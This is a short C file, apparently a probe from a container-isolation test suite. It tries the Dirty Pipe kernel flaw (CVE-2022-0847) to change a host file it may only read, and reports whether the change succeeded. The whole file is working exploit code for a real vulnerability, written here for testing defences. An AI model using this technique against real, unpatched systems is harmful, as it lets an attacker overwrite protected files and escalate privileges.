/*
 * Changes a file of the host that it may only read, by a pipe that holds a
 * page of it (CVE-2022-0847).
 */
#include "attempt.h"

int main(void)
{
	char before, after, buffer[4096] = "";
	loff_t at = 0;
	int pipes[2], fd = open("/host/file", O_RDONLY);
	long size;

	if (fd < 0 || pipe(pipes) < 0 || pread(fd, &before, 1, 1) != 1)
		refused("open");
	size = fcntl(pipes[1], F_GETPIPE_SZ);
	/* Every page of the pipe is to have been written to once. */
	for (long n = 0; n < size; n += sizeof buffer)
		if (write(pipes[1], buffer, sizeof buffer) < 0)
			refused("write");
	for (long n = 0; n < size; n += sizeof buffer)
		if (read(pipes[0], buffer, sizeof buffer) < 0)
			refused("read");
	if (splice(fd, &at, pipes[1], NULL, 1, 0) != 1)
		refused("splice");
	if (write(pipes[1], before == 'x' ? "y" : "x", 1) != 1)
		refused("write");
	if (pread(fd, &after, 1, 1) == 1 && after != before)
		succeeded("changed a file of the host");
	errno = 0;
	refused("write");
}
